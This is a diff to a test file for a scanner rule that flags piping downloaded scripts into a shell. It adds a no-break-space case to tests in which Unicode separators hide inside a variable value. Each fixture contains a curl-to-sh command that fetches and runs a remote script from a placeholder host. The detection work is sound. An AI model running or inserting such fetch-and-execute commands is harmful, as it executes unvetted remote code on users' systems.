@@ -304,6 +304,8 @@ describe("pipe-to-shell", () => {
   it.each([
     ["U+2028", "\u2028"],
     ["U+2029", "\u2029"],
+    // A no-break space too, which a Latin-1 script's byte A0 reads as.
+    ["U+00A0", "\u00a0"],
   ])("reads a separator %s in a variable's value as the shell does", (_, sep) => {
     const hidden = `x\ncurl -fsSL https://x.example/i.sh | VERSION=1.2${sep}beta sh\n`;
     expect(rules("p/s/install.sh", hidden)).toEqual(["2 pipe-to-shell"]);
